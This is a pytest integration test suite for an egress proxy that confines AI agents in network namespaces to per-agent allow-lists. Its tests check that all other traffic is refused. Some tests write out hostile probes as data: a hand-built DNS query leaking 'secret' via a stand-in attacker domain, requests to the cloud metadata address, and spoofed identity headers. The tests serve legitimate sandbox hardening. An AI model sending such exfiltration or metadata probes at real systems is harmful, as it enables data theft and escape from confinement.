"""Agents in real namespaces, the real daemon on their gateway, and an Internet that the test runs."""

import json
import subprocess

import pytest

from lab.host import BUILD, PATIENCE_SECONDS, wait_until
from lab.street import CA_FILE, CONFIG, NAMES, ORIGIN, PROXY, PROXY_ONLY, Street

ALLOWED = {"alpha": ["a.test", "c.test"], "beta": ["b.test", ".example.test"], "gamma": []}


@pytest.fixture(scope="module")
def street():
    place = Street(PROXY_ONLY)
    try:
        place.create("alpha", "--allow", *ALLOWED["alpha"])  # before the daemon, which finds its card
        place.start_daemon()
        place.create("beta", "--allow", *ALLOWED["beta"])  # and after
        place.create("gamma")
        yield place
    finally:
        place.close()


def test_namespaces_exist(street):
    listed = street.host.run("ip", "netns", "list").stdout
    assert all(f"agent-{agent}" in listed for agent in ALLOWED)


def test_allowed_host_is_reached_through_the_proxy(street):
    assert street.curl("alpha", "-x", PROXY, "https://a.test/one") == (0, "200 200")
    assert {"sni": "a.test", "path": "/one"}.items() <= street.events("request")[-1].items()


def test_variables_of_exec_are_enough(street):
    assert street.curl("alpha", "https://c.test/two") == (0, "200 200")


def test_advice_renews_an_agent_whose_time_has_run_out(street):
    """What `stile explain` says comes next is typed as it stands."""
    street.create("delta", "--allow", "a.test", "--ttl", "1s")

    def explain():
        return street.host.run(BUILD / "cmd" / "stile", "explain", "delta", "https://a.test/", check=False).stdout
    wait_until(lambda: "agent-expired" in explain(), "its end")
    command = explain().partition("next: ")[2].splitlines()[0]
    assert command == "stile-netns create delta --ttl 1h --allow a.test"
    street.host.run("sh", "-c", f"PATH={BUILD}/cmd:$PATH; {command}")
    assert street.curl("delta", "https://a.test/again") == (0, "200 200")


def test_plain_ip_netns_exec_reaches_it_as_well(street):
    done = street.host.run("ip", "netns", "exec", "agent-beta",
                           *street.curl_command("-x", PROXY, "https://deep.example.test/"))
    assert done.stdout == "200 200"


@pytest.mark.parametrize("url, reason", [
    ("https://example.com/", "host-not-allowed"),
    ("https://attacker.test/", "host-not-allowed"),
    ("https://b.test/", "host-not-allowed"),  # another agent's
    ("https://a.test:8443/", "port-not-allowed"),
    (f"https://{ORIGIN}/", "ip-literal"),
    ("https://169.254.169.254/", "ip-literal"),
    ("https://[::ffff:10.200.0.1]/", "ip-literal"),
])
def test_anything_else_is_refused_with_its_reason(street, url, reason):
    before = len(street.events("dns", "request"))
    status, codes = street.curl("alpha", "-x", PROXY, url)
    assert (status, codes) == (56, "000 403")  # curl: the proxy refused CONNECT
    line = street.audit()[-1]
    assert (line["agent"], line["verdict"], line["reason"]) == ("alpha", "deny", reason)
    assert len(street.events("dns", "request")) == before  # not even a name was asked for


@pytest.mark.parametrize("name", ["metadata", "loopback", "gateway", "neighbour", "host"])
def test_allowed_names_do_not_lead_to_the_hosts_own_places(street, name):
    street.create("delta", "--allow", ".test")
    assert street.curl("delta", f"https://{name}.test/") == (56, "000 403")
    assert street.audit()[-1]["reason"] == "address-forbidden"
    street.delete("delta", "--kill")


def test_direct_internet_is_blocked(street):
    before = len(street.events("dns", "request"))
    for url in ("https://a.test/", "http://a.test/", "https://example.com/"):
        name, port = url.split("/")[2], 443 if "https" in url else 80
        status, _ = street.curl("alpha", "--noproxy", "*", "--connect-timeout", "3", "--resolve",
                                f"{name}:{port}:{ORIGIN}", url)
        assert status == 7  # could not connect
        assert street.curl("alpha", "--noproxy", "*", "--connect-timeout", "3", url)[0] == 6  # no name
    assert len(street.events("dns", "request")) == before


def test_names_cannot_be_asked_for_directly_nor_through_the_proxy(street):
    ask = """
import socket, struct
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\\x06secret\\x08attacker\\x04test\\0\\0\\1\\0\\1"
for address in ("%s", "10.200.0.1", "198.51.100.1", "127.0.0.53"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
    try: s.sendto(query, (address, 53)); s.recv(99); print("answered by", address)
    except OSError: pass
""" % NAMES
    done = street.host.tool("exec", "alpha", "--", "/usr/bin/python3", "-c", ask)
    assert done.stdout == ""
    assert street.curl("alpha", "-x", PROXY, "https://secret.attacker.test/")[1] == "000 403"
    assert street.curl("alpha", "-x", PROXY, "http://secret.attacker.test/")[1].startswith("403")
    assert "secret.attacker.test" not in {event["name"] for event in street.events("dns")}


def test_agents_with_different_lists_at_the_same_time_get_each_their_own(street):
    names = ["a.test", "b.test", "c.test", "x.example.test", "attacker.test"]
    expected = {("alpha", "a.test"), ("alpha", "c.test"), ("beta", "b.test"), ("beta", "x.example.test")}
    started = {(agent, name): street.host.start_tool("exec", agent, "--", *street.curl_command(f"https://{name}/"),
                                                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
               for agent in ALLOWED for name in names}
    codes = {key: process.communicate(timeout=PATIENCE_SECONDS)[0] for key, process in started.items()}
    assert codes == {key: "200 200" if key in expected else "000 403" for key in started}
    addresses = {one["agent"]: one["address"] for one in street.host.agents().values()}
    for line in street.audit():
        if "src" in line and line["agent"] in addresses:
            assert line["src"].rsplit(":", 1)[0] == addresses[line["agent"]]


def test_nothing_that_an_agent_says_makes_it_another(street):
    for words in (["-U", "beta:secret"], ["--proxy-header", "X-Forwarded-For: 10.200.0.3"],
                  ["--proxy-header", "X-Agent-Id: beta"], ["--haproxy-protocol"]):
        assert street.curl("alpha", "-x", PROXY, *words, "https://b.test/")[1] != "200 200"
    assert {line.get("agent") for line in street.audit() if line.get("host") == "b.test" and
            line["verdict"] == "allow"} <= {"beta"}


def test_metrics_and_control_cannot_be_reached(street):
    for port in (9128, 22, 80):
        assert street.curl("alpha", "--noproxy", "*", "--connect-timeout", "1", f"http://10.200.0.1:{port}/")[0] in (7, 28)
    done = street.host.shell("alpha", "ls /run/stile /run/stile/control.sock", check=False)
    assert done.returncode != 0 and done.stdout == ""


HOLD = """
import socket, ssl, sys
s = socket.create_connection(("10.200.0.1", 3128))
s.sendall(b"CONNECT a.test:443 HTTP/1.1\\r\\n\\r\\n")
assert b" 200 " in s.recv(1000)
t = ssl.create_default_context(cafile=sys.argv[1]).wrap_socket(s, server_hostname="a.test")
t.sendall(b"GET /hold HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n")
print("open" if b"200 OK" in t.recv(1000) else "refused", flush=True)
try: print("end", t.recv(10))
except OSError as problem: print("cut")
"""


def test_deleting_an_agent_closes_its_tunnels_and_no_others(street):
    first = street.create("epsilon", "--allow", "a.test")
    holders = {}
    for agent in ("alpha", "epsilon"):
        holders[agent] = street.host.start_tool("exec", agent, "--", "/usr/bin/python3", "-c", HOLD,
                                                CA_FILE, stdout=subprocess.PIPE, text=True)
        assert holders[agent].stdout.readline() == "open\n"
    street.delete("epsilon")

    def ends():
        return [event for event in street.events("closed") if event["path"] == "/hold"]
    wait_until(ends, "the origin to see the tunnel's end")
    wait_until(lambda: any(line["event"] == "close" and line["agent"] == "epsilon" for line in street.audit()),
               "the end in the audit log")
    assert holders["alpha"].poll() is None and len(ends()) == 1
    # The next one of that name is another one: address, instance, and nothing left to inherit.
    again = street.create("epsilon", "--allow", "a.test")
    assert again["address"] != first["address"] and again["instance"] != first["instance"]
    assert street.curl("epsilon", "https://a.test/") == (0, "200 200")
    street.delete("epsilon", "--kill")
    holders["alpha"].kill()


def test_an_agent_whose_time_is_over_is_refused(street):
    street.host.write("/etc/cards/old.json", json.dumps(
        {"agent_id": "old", "allowed_hosts": ["a.test"], "ttl_seconds": 60, "created": "2020-01-01T00:00:00Z"}))
    street.create("old", "--card", "/etc/cards/old.json", warning="its time ran out at 2020-01-01")
    assert street.curl("old", "https://a.test/")[1] == "000 403"
    assert street.audit()[-1]["reason"] in ("agent-expired", "unknown-agent")
    street.delete("old")


def test_check_is_content_beside_a_running_daemon(street):
    assert street.host.tool("check").returncode == 0


@pytest.mark.parametrize("before, after, probe, said", [
    ('listen = ["10.200.0.1:3128"]', 'listen = ["127.0.0.1:3128"]', "proxy", 'add "10.200.0.1:3128" to server.listen'),
    ('directories = ["/run/stile/agents.d"]', "directories = []", "known", "agents.directories")])
def test_check_notices_a_daemon_that_does_not_serve_the_agents(before, after, probe, said):
    """The fence is whole, and nothing works."""
    place = Street()
    try:
        place.host.tool("create", "alpha", "--allow", "a.test")
        place.host.write("/etc/stile/stile.toml", CONFIG.replace(before, after))
        place.start_daemon()
        done = place.host.tool("check", "--json", check=False)
        wrong = {row["probe"]: row["got"] for row in json.loads(done.stdout)["rows"] if not row["ok"]}
        assert done.returncode == 1 and list(wrong) == [probe] and said in wrong[probe], wrong
    finally:
        place.close()
